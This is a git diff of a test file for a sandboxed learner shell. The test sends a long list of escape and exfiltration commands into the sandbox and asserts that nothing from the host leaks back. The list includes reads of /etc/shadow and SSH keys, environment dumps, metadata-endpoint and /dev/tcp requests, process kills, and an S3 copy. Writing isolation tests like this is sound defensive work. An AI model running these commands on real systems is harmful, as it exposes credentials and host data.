@@ -1,4 +1,6 @@
-import { release } from 'node:os'
+import { homedir, release } from 'node:os'
+import { dirname } from 'node:path'
+import { fileURLToPath } from 'node:url'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { install, type Installation } from '../support/server.ts'
 import { connect, learner, openTerminal, plain, ticket, upgrade, type Learner } from '../support/terminal.ts'
@@ -61,12 +63,20 @@ test('one learner meets nothing of another: no terminal, file, history or world'
   theirs.close()
 })
 
+/** Where whoever runs the server keeps their own things. */
+const OWN = homedir()
+const CHECKOUT = dirname(fileURLToPath(new URL('../../package.json', import.meta.url)))
+/** What lies beside the product, unless the lines name it themselves or the shell has a folder of that name. */
+const BESIDE = [dirname(CHECKOUT)].filter(
+  (above) => ![OWN, '/home', '/tmp'].some((known) => `${known}/`.startsWith(`${above}/`) || above === '/'),
+)
+
 /** Lines that would reach the machine, its network, its variables or another learner, and what would show that they did. */
 const REACHES = [
   'cat /etc/passwd /etc/shadow /etc/hostname /etc/hosts /etc/resolv.conf /etc/fstab /etc/machine-id',
   'cat /proc/1/environ /proc/self/environ /proc/self/cmdline /proc/self/maps /proc/cpuinfo /proc/version /proc/mounts',
-  'ls -la / /root /work /home /opt /srv /mnt /var /var/lib /tmp /dev /sys /run /usr/local',
-  'cat ~/../../etc/shadow ../../../../../../etc/shadow /home/learner/../../root/.ssh/id_rsa //etc//shadow /etc/./shadow',
+  `ls -la / ${OWN} ${BESIDE.join(' ')} /home /opt /srv /mnt /var /var/lib /tmp /dev /sys /run /usr/local`,
+  `cat ~/../../etc/shadow ../../../../../../etc/shadow ~/../..${OWN}/.ssh/id_rsa //etc//shadow /etc/./shadow`,
   'ln -s /etc/shadow x; cat x; ln -s / root; ls root/root; ln /etc/shadow y; cat y; readlink -f x; cp /etc/shadow z; cat z',
   'cd /proc/self/root && ls; cd /proc/1/root && ls; ls /dev/fd /dev/shm; cat /dev/mem /dev/kmsg',
   'find / -maxdepth 3 -name "*.key" -o -maxdepth 3 -name "admin-api-key" -o -maxdepth 3 -name "*.sock"',
@@ -76,10 +86,10 @@ const REACHES = [
   'xargs -a /etc/shadow echo; tar cf - /etc/shadow | tar tf -; gzip -c /etc/shadow | wc -c; base64 /etc/shadow; od /etc/shadow; strings /etc/shadow; rg . /etc/shadow; diff /etc/shadow /dev/null',
   'curl http://127.0.0.1:8080/; wget http://169.254.169.254/latest/meta-data/; echo > /dev/tcp/127.0.0.1/8080; exec 3<>/dev/tcp/127.0.0.1/5432; cat < /dev/udp/127.0.0.1/53; html-to-markdown http://127.0.0.1',
   'nc 127.0.0.1 80; ssh root@127.0.0.1; ping -c 1 127.0.0.1; ps aux; kill -9 1; kill -9 -1; top; mount; df; uname -a; hostname; whoami; id; w; who; last',
-  'bash -c "cat /etc/shadow"; sh -c env; eval "cat /etc/shadow"; source /etc/shadow; . /root/.profile; exec bash; command cat /etc/shadow; builtin echo x; enable -f /lib/x.so x',
+  `bash -c "cat /etc/shadow"; sh -c env; eval "cat /etc/shadow"; source /etc/shadow; . ${OWN}/.profile; exec bash; command cat /etc/shadow; builtin echo x; enable -f /lib/x.so x`,
   'echo $BASH_ENV $NODE_OPTIONS $PATH $DATABASE_URL $HOME ~root ~postgres; BASH_ENV=/etc/shadow bash -c true; LD_PRELOAD=/x cat /etc/shadow; PATH=/bin:/usr/bin ls /bin',
   'x=__proto__; declare -A a; a[__proto__]=1; a[constructor]=2; echo ${a[constructor]} ${a[__proto__]}; __proto__=1; echo $__proto__; constructor() { echo own; }; constructor',
-  'printf "%s" "$(</etc/shadow)"; mapfile -t l < /etc/shadow; echo "${l[@]}"; read -r v < /proc/self/environ; echo "$v"; cat <(cat /etc/shadow); echo /etc/sh*; echo /root/* /home/*',
+  String.raw`printf "%s" "$(</etc/shadow)"; mapfile -t l < /etc/shadow; echo "${'${l[@]}'}"; read -r v < /proc/self/environ; echo "$v"; cat <(cat /etc/shadow); echo /etc/sh*; echo ${OWN}/* ~/../*`,
   'terraform -chdir=/etc version; terraform -chdir=../.. init; aws s3 cp /etc/shadow s3://b/; aws ec2 describe-vpcs --cli-input-json file:///etc/shadow; aws ec2 describe-vpcs --query file:///proc/self/environ --endpoint-url http://127.0.0.1:8080',
   'gcloud compute networks list --flags-file=/etc/shadow; gcloud compute networks list --format="value(/etc/shadow)"; nano /etc/shadow; vim ../../etc/passwd; man ../../etc/passwd; less /etc/shadow < /dev/null | cat',
 ]
@@ -89,9 +99,11 @@ test('nothing of the machine is in the shell, whatever is tried', async () => {
   let seen = ''
   for (const line of REACHES) seen += plain(await terminal.run(`${line} 2>&1 | cat; true`))
   const reached =
-    /root:[$*!x]:\d{5}|root:\*|daemon:|postgres:|DATABASE|DATA_DIR|NODE_|node_modules|BEGIN OPENSSH|ssh-rsa|admin-api-key$|instance-id|model name|\/work\/|uid=0|own uid/m
+    /root:[$*!x]:\d{5}|root:\*|daemon:|postgres:|DATABASE|DATA_DIR|NODE_|node_modules|BEGIN OPENSSH|ssh-rsa|admin-api-key$|instance-id|model name|uid=0|own uid/m
   expect(seen).not.toContain(release())
-  expect(reached.exec(seen.replaceAll(/^.*learner@sandbox.*$/gm, ''))?.[0]).toBeUndefined()
+  const answers = seen.replaceAll(/^.*learner@sandbox.*$/gm, '')
+  expect(reached.exec(answers)?.[0]).toBeUndefined()
+  for (const place of [CHECKOUT, ...BESIDE]) expect(answers).not.toContain(`${place}/`)
   expect(plain(await terminal.run('cat /etc/passwd'))).toMatch(/learner:x:1000/)
   terminal.close()
 })
